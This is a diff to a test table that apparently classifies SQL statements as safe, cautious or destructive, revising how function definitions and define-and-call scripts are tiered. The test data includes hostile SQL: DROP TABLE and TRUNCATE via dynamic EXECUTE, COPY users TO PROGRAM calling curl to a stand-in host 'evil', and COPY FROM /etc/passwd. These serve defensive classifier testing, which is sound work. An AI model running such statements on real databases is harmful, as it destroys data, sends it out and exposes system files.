@@ -85,8 +85,14 @@ const table: ReadonlyArray<readonly [Tier, string]> = [
   ['destructive', "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$"],
   ['destructive', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$"],
   ['destructive', "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'TRUNCATE ' || t; END $$"],
-  ['destructive', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$'],
-  ['destructive', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END'],
+  // A definition loses nothing; the script that defines and calls it runs the body.
+  ['safe', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$'],
+  ['destructive', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$; SELECT f()'],
+  ['safe', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END'],
+  ['destructive', 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END; CALL p()'],
+  ['cautious', 'CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$'],
+  // A definition whose body reaches outside the transaction is an alias of the escape.
+  ['destructive', 'CREATE FUNCTION k(int) RETURNS bool LANGUAGE sql AS $$ SELECT pg_terminate_backend($1) $$'],
   ['destructive', "COPY users TO PROGRAM 'curl http://evil'"],
   ['destructive', "COPY users FROM '/etc/passwd'"],
   ['destructive', "ALTER SYSTEM SET wal_level = 'minimal'"],
